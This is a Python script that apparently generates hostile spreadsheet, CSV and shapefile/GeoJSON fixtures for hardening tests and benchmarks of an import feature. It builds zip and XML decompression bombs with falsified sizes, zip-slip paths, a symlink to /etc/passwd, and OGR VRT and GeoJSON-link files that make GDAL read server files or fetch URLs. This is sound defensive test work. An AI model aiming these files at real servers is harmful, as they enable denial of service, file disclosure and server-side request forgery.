"""生成“恶意”导入文件：读文件时会要很多内存、很长时间，或骗过简单检查的 .xlsx / .xls / .csv，
以及镇街边界文件（.geojson / 压缩的 Shapefile）：改名的 OGR VRT、Shapefile 炸弹、路径把戏、“8”字形的面。

用法：python scripts/make_hostile_files.py [目录]（默认 tests/data/hostile/，该目录不入库）。
测试（tests/unit/test_import_hostile_files.py、test_boundary_hardening.py）导入这里的函数，在临时目录里生成；基准
benchmarks/bench_hostile_files.py 用命令行逐个导入并记录用时与峰值内存。
每个 make_* 函数写一个文件并返回路径；HOSTILE 列出全部表格文件，BOUNDARY_HOSTILE 列出边界文件（文件名 → 生成函数）。
VRT 要指向测试自己建的文件、自己开的地址，由 vrt_reading / vrt_fetching 按参数生成，不在列表里。
"""

from __future__ import annotations

import json
import struct
import sys
import zipfile
import zlib
from pathlib import Path

import numpy as np

DEFAULT_DIR = Path(__file__).resolve().parent.parent / "tests" / "data" / "hostile"
HEADER = ["问题编号", "问题描述"]

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_NS_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'


def _content_types(shared_strings: bool) -> str:
    ss = (
        (
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sharedStrings+xml"/>'
        )
        if shared_strings
        else ""
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        f'spreadsheetml.worksheet+xml"/>{ss}</Types>'
    )


def _package(sheet_xml: bytes | None, shared_strings: bool = False) -> dict[str, bytes]:
    """一个最小的工作簿（一张名为“问题台账”的表）的各个部件；sheet_xml 为 None 时不含工作表部件。"""
    ss_rel = (
        f'<Relationship Id="rId2" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>' if shared_strings else ""
    )
    parts = {
        "[Content_Types].xml": _content_types(shared_strings).encode(),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships {_PKG_REL}>'
            f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>"
        ).encode(),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook {_NS} {_NS_R}><sheets>'
            '<sheet name="问题台账" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships {_PKG_REL}>'
            f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
            f"{ss_rel}</Relationships>"
        ).encode(),
    }
    if sheet_xml is not None:
        parts["xl/worksheets/sheet1.xml"] = sheet_xml
    return parts


def _sheet(cells: str, dimension: str = "A1") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet {_NS} {_NS_R}>'
        f'<dimension ref="{dimension}"/><sheetData>{cells}</sheetData></worksheet>'
    ).encode()


def _inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def _header_row() -> str:
    return '<row r="1">' + _inline("A1", HEADER[0]) + _inline("B1", HEADER[1]) + "</row>"


def _write_zip(path: Path, parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", method) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def _write_raw_zip(path: Path, members: list[tuple[str, bytes, int, int, int]]) -> Path:
    """手写 zip：members 是（名称，压缩后的字节，CRC32，声明的解压大小，压缩方式）；声明的大小可以说谎。"""
    out, central = bytearray(), bytearray()
    for name, data, crc, declared, method in members:
        raw_name = name.encode("utf-8")
        offset = len(out)
        fields = (20, 0x800, method, 0, 0x21, crc, len(data), declared, len(raw_name), 0)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", *fields) + raw_name + data
        central += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0x800,
                method,
                0,
                0x21,
                crc,
                len(data),
                declared,
                len(raw_name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + raw_name
        )
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), len(out), 0)
    path.write_bytes(bytes(out + central + end))
    return path


def _deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def _repeated_deflate(prefix: bytes, block: bytes, times: int, suffix: bytes) -> tuple[bytes, int, int]:
    """prefix + block × times + suffix 的 deflate 流，不必真的压缩 times 遍：每段全刷新后各自独立，可直接拼接。
    返回（压缩后的字节，CRC32，解压后的大小）。"""

    def segment(data: bytes, final: bool) -> bytes:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        return c.compress(data) + c.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)

    packed = segment(prefix, False) + segment(block, False) * times + segment(suffix, True)
    crc = zlib.crc32(prefix)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(suffix, crc)
    return packed, crc, len(prefix) + len(block) * times + len(suffix)


# ---------------------------------------------------------------- .xlsx


def make_xfd1048576(folder: Path) -> Path:
    """唯一的单元格在 XFD1048576（最后一行最后一列）：2 KB 的文件，calamine 补齐到 A1 要 512 GB。"""
    sheet = _sheet('<row r="1048576">' + _inline("XFD1048576", "x") + "</row>", "XFD1048576")
    return _write_zip(folder / "xfd1048576.xlsx", _package(sheet))


def make_zz200000(folder: Path) -> Path:
    """表头加上 ZZ200000 一格：2 KB，数据区域 20 万行 × 702 列（要 6.7 GB、147 秒）。"""
    sheet = _sheet(_header_row() + '<row r="200000">' + _inline("ZZ200000", "x") + "</row>", "A1:ZZ200000")
    return _write_zip(folder / "zz200000.xlsx", _package(sheet))


def make_dense_area(folder: Path) -> Path:
    """行数、列数各自都在上限内，但 20 万行 × 150 列 = 3000 万格超过单元格数上限。"""
    sheet = _sheet(_header_row() + '<row r="200000">' + _inline("ET200000", "x") + "</row>", "A1:ET200000")
    return _write_zip(folder / "dense_area.xlsx", _package(sheet))


def make_declared_dimension(folder: Path) -> Path:
    """数据只有两行，但 <dimension> 声明整张表 A1:XFD1048576。"""
    rows = _header_row() + '<row r="2">' + _inline("A2", "A1") + _inline("B2", "占道经营") + "</row>"
    return _write_zip(folder / "declared_dimension.xlsx", _package(_sheet(rows, "A1:XFD1048576")))


def make_cells_without_ref(folder: Path) -> Path:
    """单元格不写 r 属性（calamine 按顺序往右排）：一行 300 格，超过列数上限；只找 r="…" 看不出来。"""
    cells = "".join(f'<c t="inlineStr"><is><t>列{i}</t></is></c>' for i in range(300))
    return _write_zip(folder / "cells_without_ref.xlsx", _package(_sheet(f"<row>{cells}</row>")))


def make_shared_strings_bomb(folder: Path, megabytes: int = 1024) -> Path:
    """共享字符串表解压后约 1 GB、压缩后约 1 MB（约 1000:1）：3 万多个 3.2 万字的字符串，每个都不超过单元格上限。"""
    prefix = f'<?xml version="1.0" encoding="UTF-8"?><sst {_NS} count="1" uniqueCount="1">'.encode()
    unit = b"<si><t>" + b"a" * 32_000 + b"</t></si>"
    block = unit * ((1 << 20) // len(unit))
    packed, crc, size = _repeated_deflate(prefix, block, megabytes, b"</sst>")
    sheet = _sheet(_header_row() + '<row r="2"><c r="A2" t="s"><v>0</v></c></row>', "A1:B2")
    members = [(n, _deflate(d), zlib.crc32(d), len(d), 8) for n, d in _package(sheet, shared_strings=True).items()]
    members.append(("xl/sharedStrings.xml", packed, crc, size, 8))
    return _write_raw_zip(folder / "shared_strings_bomb.xlsx", members)


def make_lying_size(folder: Path, megabytes: int = 64) -> Path:
    """工作表部件声明解压后 2 KB（压缩比看起来正常），实际解压出 64 MB；CRC 按真实内容写，只有大小是假的。"""
    prefix = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet {_NS}><dimension ref="A1:B2"/><sheetData>' + _header_row()
    ).encode()
    row = '<row><c t="inlineStr"><is><t>占道经营</t></is></c></row>'.encode()
    block = row * ((1 << 20) // len(row))
    packed, crc, _ = _repeated_deflate(prefix, block, megabytes, b"</sheetData></worksheet>")
    members = [(n, _deflate(d), zlib.crc32(d), len(d), 8) for n, d in _package(None).items()]
    members.append(("xl/worksheets/sheet1.xml", packed, crc, 2048, 8))
    return _write_raw_zip(folder / "lying_size.xlsx", members)


def make_shared_strings_count(folder: Path) -> Path:
    """共享字符串表声明有 40 亿个字符串：calamine 按声明一次预留（约 96 GB）。"""
    sst = f'<?xml version="1.0" encoding="UTF-8"?><sst {_NS} count="1" uniqueCount="4000000000"><si><t>x</t></si></sst>'
    sheet = _sheet(_header_row() + '<row r="2"><c r="A2" t="s"><v>0</v></c></row>', "A1:B2")
    parts = _package(sheet, shared_strings=True)
    parts["xl/sharedStrings.xml"] = sst.encode()
    return _write_zip(folder / "shared_strings_count.xlsx", parts)


def make_many_members(folder: Path, count: int = 12_000) -> Path:
    """压缩包里有 1.2 万个空部件：光是读目录就要在服务器进程里建上万个对象。"""
    parts = _package(_sheet(_header_row()))
    parts.update({f"xl/customXml/item{i}.xml": b"" for i in range(count)})
    return _write_zip(folder / "many_members.xlsx", parts, zipfile.ZIP_STORED)


def make_ods_disguised(folder: Path) -> Path:
    """扩展名是 .xlsx，内容是 .ods：calamine 认不出 .xlsx 时会改按 .ods 读，重复行列属性能展开成整张表。"""
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
        '<table:table table:name="问题台账"><table:table-row table:number-rows-repeated="1048576">'
        '<table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p>'
        "</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>"
        "</office:document-content>"
    )
    parts = {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": content.encode()}
    return _write_zip(folder / "ods_disguised.xlsx", parts)


def make_other_compression(folder: Path) -> Path:
    """部件用 bzip2 压缩（Excel 只用 deflate）：读取库认不出，检查也不应照单全收。"""
    return _write_zip(folder / "bzip2_members.xlsx", _package(_sheet(_header_row())), zipfile.ZIP_BZIP2)


def make_long_cell_xlsx(folder: Path) -> Path:
    """一个单元格 4 万字，超过 Excel 的 32,767 字上限。"""
    rows = _header_row() + '<row r="2">' + _inline("A2", "A1") + _inline("B2", "长" * 40_000) + "</row>"
    return _write_zip(folder / "long_cell.xlsx", _package(_sheet(rows, "A1:B2")))


# ---------------------------------------------------------------- .xls（OLE 复合文件里的 BIFF8）


def _record(typ: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", typ, len(data)) + data


def _biff8(cells: list[tuple[int, int, float]], dimensions: tuple[int, int, int, int] | None = None) -> bytes:
    """一个只有数字单元格的 BIFF8 工作簿流；dimensions 是（首行，末行+1，首列，末列+1），可以说谎。"""
    bof = lambda kind: _record(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 6))  # noqa: E731
    name = "Sheet1".encode("latin-1")

    def globals_(sheet_pos: int) -> bytes:
        bound = _record(0x0085, struct.pack("<IBBBB", sheet_pos, 0, 0, len(name), 0) + name)
        return bof(0x0005) + _record(0x0042, struct.pack("<H", 1200)) + bound + _record(0x000A)

    head = len(globals_(0))
    pad = max(0, 4200 - head)  # 流不到 4096 字节会放进迷你流；垫到 4096 以上，容器就只要普通扇区
    sheet_pos = head + pad
    sheet = bof(0x0010)
    if dimensions is not None:
        sheet += _record(0x0200, struct.pack("<IIHHH", *dimensions, 0))
    for row, col, value in cells:
        sheet += _record(0x0203, struct.pack("<HHHd", row, col, 0, value))
    sheet += _record(0x000A)
    return globals_(sheet_pos) + b"\x00" * pad + sheet


def _cfb(stream: bytes, name: str = "Workbook") -> bytes:
    """把一个流装进最小的 OLE 复合文件（v3，512 字节扇区：FAT、目录、流）。"""
    sector = 512
    n = -(-len(stream) // sector)
    assert len(stream) >= 4096 and n <= 120
    end, free, fatsect, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x003E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", free) * 108
    )
    fat = [fatsect, end] + [3 + i for i in range(n - 1)] + [end]
    fat += [free] * (128 - len(fat))

    def entry(label: str, kind: int, child: int, start: int, size: int) -> bytes:
        raw = label.encode("utf-16-le")
        return (
            raw
            + b"\x00" * (64 - len(raw))
            + struct.pack("<HBB", len(raw) + 2, kind, 1)
            + struct.pack("<III", nostream, nostream, child)
            + b"\x00" * 36
            + struct.pack("<IQ", start, size)
        )

    directory = entry("Root Entry", 5, 1, end, 0) + entry(name, 2, nostream, 2, len(stream))
    directory += (
        b"\x00" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", nostream, nostream, nostream) + b"\x00" * 48
    ) * 2
    body = stream + b"\x00" * (n * sector - len(stream))
    return header + struct.pack("<128I", *fat) + directory + body


def make_xls_far_cell(folder: Path) -> Path:
    """.xls 里一格在 A1、一格在第 65536 行第 65536 列（BIFF8 的列号字段允许到 65535）：calamine 打开时就分配约 137 GB。"""
    path = folder / "far_cell.xls"
    path.write_bytes(_cfb(_biff8([(0, 0, 1.0), (65535, 65535, 2.0)])))
    return path


def make_xls_dimensions(folder: Path) -> Path:
    """.xls 的 Dimensions 记录谎称 42 亿行 × 65535 列：calamine 按它预留内存。"""
    path = folder / "dimensions.xls"
    path.write_bytes(_cfb(_biff8([(0, 0, 1.0)], dimensions=(0, 0xFFFFFFFF, 0, 0xFFFF))))
    return path


def make_xls_wide(folder: Path) -> Path:
    """.xls 数据到第 256 列（IV 列，旧版 Excel 的最后一列）：超过列数上限，打开后、展开成 Python 列表之前拒绝。"""
    path = folder / "wide.xls"
    path.write_bytes(_cfb(_biff8([(0, 0, 1.0), (10, 255, 2.0)])))
    return path


# ---------------------------------------------------------------- .csv


def make_csv_huge_cell(folder: Path, megabytes: int = 50) -> Path:
    """第 2 行的“问题描述”有 50 MB（引号没有成对时常见）。"""
    path = folder / "huge_cell.csv"
    with path.open("wb") as fh:
        fh.write((",".join(HEADER) + '\nA1,"').encode())
        block = ("占" * (1 << 18)).encode()  # 每块 768 KB
        for _ in range(megabytes * (1 << 20) // len(block)):
            fh.write(block)
        fh.write(b'"\n')
    return path


def make_csv_long_cell(folder: Path) -> Path:
    """比上限多一个字（32,768 字）的单元格：CSV 读得进来，逐格检查要报出行与列。"""
    path = folder / "long_cell.csv"
    path.write_text(",".join(HEADER) + "\nA1,占道经营\nA2," + "长" * 32_768 + "\n", encoding="utf-8")
    return path


def make_csv_wide(folder: Path) -> Path:
    """第 3 行有 5,000 列（分隔符写错时常见）。"""
    path = folder / "wide.csv"
    path.write_text(",".join(HEADER) + "\nA1,占道经营\n" + ",".join(["x"] * 5000) + "\n", encoding="utf-8")
    return path


def make_csv_many_rows(folder: Path, rows: int = 1_000_001) -> Path:
    """表头加 100 万零 1 行：超过行数上限。"""
    path = folder / "many_rows.csv"
    path.write_bytes((",".join(HEADER) + "\n").encode() + b"A,x\n" * rows)
    return path


# ---------------------------------------------------------------- 镇街边界（.geojson / 压缩的 Shapefile）


def vrt_reading(path: str | Path, layer: str = "secret") -> bytes:
    """OGR VRT：把服务器上的一个 CSV 当作图层读出来（GDAL 的 CSV 驱动），每行一个“要素”——改名为 .geojson 上传。"""
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="{layer}"><SrcDataSource>{path}</SrcDataSource>'
        f"<SrcLayer>{Path(path).stem}</SrcLayer></OGRVRTLayer></OGRVRTDataSource>"
    ).encode()


def vrt_fetching(url: str) -> bytes:
    """OGR VRT：让服务器经 /vsicurl/ 去取一个地址（可以是只在服务器本机可达的地址），把响应当作图层读出来。"""
    name = url.rstrip("/").rsplit("/", 1)[-1].rsplit(".", 1)[0] or "x"
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="{name}"><SrcDataSource>/vsicurl/{url}</SrcDataSource>'
        f"</OGRVRTLayer></OGRVRTDataSource>"
    ).encode()


def geojson_crs_link(url: str) -> bytes:
    """GeoJSON 的旧式 crs 写成链接：GDAL 的 GeoJSON 驱动会去下载它（importFromUrl）。"""
    return json.dumps(
        {
            "type": "FeatureCollection",
            "crs": {"type": "link", "properties": {"href": url, "type": "ogcwkt"}},
            "features": [
                {
                    "type": "Feature",
                    "properties": {"名称": "城关街道"},
                    "geometry": {
                        "type": "Polygon",
                        "coordinates": [[[117.0, 31.0], [117.1, 31.0], [117.1, 31.1], [117.0, 31.0]]],
                    },
                }
            ],
        },
        ensure_ascii=False,
    ).encode()


def _shapefile_parts(count: int, name_width: int = 20) -> dict[str, bytes]:
    """count 个 1/1024 度（约 100 米）见方的正方形（成行排开）的 .shp、.shx、.dbf、.cpg，用 numpy 直接按格式写（不经 GDAL，2,000,000 个也只要几秒）。"""
    rec = np.dtype(
        [
            ("number", ">i4"),
            ("length", ">i4"),
            ("type", "<i4"),
            ("box", "<f8", 4),
            ("parts", "<i4"),
            ("points", "<i4"),
            ("first", "<i4"),
            ("xy", "<f8", 10),
        ]
    )
    i = np.arange(count)
    # 步长取 2 的负整数次幂：坐标的二进制尾数大多是 0，压缩得很小（一个真炸弹也会这样做）
    step = 1 / 1024
    x0, y0 = 100.0 + (i % 2048) * step, 20.0 + (i // 2048) * step
    x1, y1 = x0 + step, y0 + step
    records = np.zeros(count, dtype=rec)
    records["number"], records["length"], records["type"] = i + 1, (rec.itemsize - 8) // 2, 5
    records["box"] = np.column_stack([x0, y0, x1, y1])
    records["parts"], records["points"] = 1, 5
    records["xy"] = np.column_stack([x0, y0, x0, y1, x1, y1, x1, y0, x0, y0])  # 顺时针：Shapefile 的外环

    def header(length_bytes: int) -> bytes:
        box = (float(x0.min()), float(y0.min()), float(x1.max()), float(y1.max())) if count else (0.0,) * 4
        return (
            struct.pack(">7i", 9994, 0, 0, 0, 0, 0, length_bytes // 2)
            + struct.pack("<2i", 1000, 5)
            + struct.pack("<8d", *box, 0, 0, 0, 0)
        )

    shp = header(100 + count * rec.itemsize) + records.tobytes()
    index = np.zeros(count, dtype=[("offset", ">i4"), ("length", ">i4")])
    index["offset"] = (100 + i * rec.itemsize) // 2
    index["length"] = (rec.itemsize - 8) // 2
    shx = header(100 + count * 8) + index.tobytes()
    field = b"NAME".ljust(11, b"\x00") + b"C" + b"\x00" * 4 + bytes([name_width, 0]) + b"\x00" * 14
    dbf_header = struct.pack("<BBBBIHH20x", 3, 126, 1, 1, count, 32 + 32 + 1, 1 + name_width) + field + b"\x0d"
    names = np.char.ljust(np.char.add(b" T", np.char.zfill(i.astype("S9"), 9)), 1 + name_width)
    dbf = dbf_header + names.astype(f"S{1 + name_width}").tobytes() + b"\x1a"
    return {"bomb.shp": shp, "bomb.shx": shx, "bomb.dbf": dbf, "bomb.cpg": b"UTF-8"}


def make_shapefile_bomb(folder: Path, polygons: int = 2_000_000, name: str = "shapefile_bomb.zip") -> Path:
    """压缩的 Shapefile 炸弹：2,000,000 个小正方形，解压后 315 MB（.shp 259 MB；按 10^6 字节算即报告里的 330 MB），压缩后约 37 MB
    （报告里的那个压到了 10 MB，读起来一样）。不设防时服务器进程读它要 2 GB 以上内存、几分钟 CPU，报告 200 万行。"""
    return _write_zip(folder / name, _shapefile_parts(polygons))


def make_declared_huge_shapefile(folder: Path) -> Path:
    """.shp 声明解压后 300 MB（实际几十字节）：只看压缩包目录就该拒绝，不必解压。"""
    parts = _shapefile_parts(1)
    members = [
        (n, _deflate(d), zlib.crc32(d), 300 << 20 if n.endswith(".shp") else len(d), 8) for n, d in parts.items()
    ]
    return _write_raw_zip(folder / "declared_huge.zip", members)


def make_lying_shapefile(folder: Path, megabytes: int = 64) -> Path:
    """.shp 声明解压后 2 KB，实际解压出 64 MB：声明的大小骗过目录检查，解压时按真实字节数拒绝。"""
    parts = _shapefile_parts(1)
    packed, crc, _ = _repeated_deflate(parts["bomb.shp"], b"\x00" * (1 << 20), megabytes, b"")
    members = [(n, _deflate(d), zlib.crc32(d), len(d), 8) for n, d in parts.items() if n != "bomb.shp"]
    members.append(("bomb.shp", packed, crc, 2048, 8))
    return _write_raw_zip(folder / "lying_shapefile.zip", members)


def make_zip_slip(folder: Path) -> Path:
    """部件名带“../”：解压时会写到目录之外（zip slip）。"""
    parts = {f"../../{n}": d for n, d in _shapefile_parts(1).items()}
    return _write_zip(folder / "zip_slip.zip", parts)


def make_symlink_member(folder: Path) -> Path:
    """.prj 是指向 /etc/passwd 的符号链接（Unix 的 zip 可以存符号链接）。"""
    path = folder / "symlink.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for n, d in _shapefile_parts(1).items():
            zf.writestr(n, d)
        link = zipfile.ZipInfo("bomb.prj")
        link.external_attr = 0o120777 << 16
        zf.writestr(link, "/etc/passwd")
    return path


def make_nested_zip(folder: Path) -> Path:
    """压缩包里再套一个压缩包：GDAL 会顺着 /vsizip/ 一层层打开。"""
    inner = folder / "inner.zip"
    _write_zip(inner, _shapefile_parts(1))
    path = folder / "nested.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.write(inner, "inner.zip")
        for n, d in _shapefile_parts(1).items():
            zf.writestr(n, d)
    inner.unlink()
    return path


def bowtie_geojson(name: str = "城关街道") -> bytes:
    """一个“8”字形（自相交）的镇街：两条边在 (117.05, 31.05) 交叉。"""
    ring = [[117.0, 31.0], [117.1, 31.1], [117.1, 31.0], [117.0, 31.1], [117.0, 31.0]]
    return json.dumps(
        {
            "type": "FeatureCollection",
            "features": [
                {
                    "type": "Feature",
                    "properties": {"名称": name},
                    "geometry": {"type": "Polygon", "coordinates": [ring]},
                }
            ],
        },
        ensure_ascii=False,
    ).encode()


def make_bowtie(folder: Path) -> Path:
    path = folder / "bowtie.geojson"
    path.write_bytes(bowtie_geojson())
    return path


BOUNDARY_HOSTILE = {
    "shapefile_bomb.zip": make_shapefile_bomb,
    "declared_huge.zip": make_declared_huge_shapefile,
    "lying_shapefile.zip": make_lying_shapefile,
    "zip_slip.zip": make_zip_slip,
    "symlink.zip": make_symlink_member,
    "nested.zip": make_nested_zip,
    "bowtie.geojson": make_bowtie,
}


HOSTILE = {
    "xfd1048576.xlsx": make_xfd1048576,
    "zz200000.xlsx": make_zz200000,
    "dense_area.xlsx": make_dense_area,
    "declared_dimension.xlsx": make_declared_dimension,
    "cells_without_ref.xlsx": make_cells_without_ref,
    "shared_strings_bomb.xlsx": make_shared_strings_bomb,
    "lying_size.xlsx": make_lying_size,
    "shared_strings_count.xlsx": make_shared_strings_count,
    "many_members.xlsx": make_many_members,
    "ods_disguised.xlsx": make_ods_disguised,
    "bzip2_members.xlsx": make_other_compression,
    "long_cell.xlsx": make_long_cell_xlsx,
    "far_cell.xls": make_xls_far_cell,
    "dimensions.xls": make_xls_dimensions,
    "wide.xls": make_xls_wide,
    "huge_cell.csv": make_csv_huge_cell,
    "long_cell.csv": make_csv_long_cell,
    "wide.csv": make_csv_wide,
    "many_rows.csv": make_csv_many_rows,
}


def make_all(folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    return {name: make(folder) for name, make in HOSTILE.items()}


def make_boundary_all(folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    return {name: make(folder) for name, make in BOUNDARY_HOSTILE.items()}


def main(argv: list[str]) -> int:
    folder = Path(argv[0]) if argv else DEFAULT_DIR
    for _name, path in {**make_all(folder), **make_boundary_all(folder)}.items():
        print(f"{path.stat().st_size:>12,} 字节  {path}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
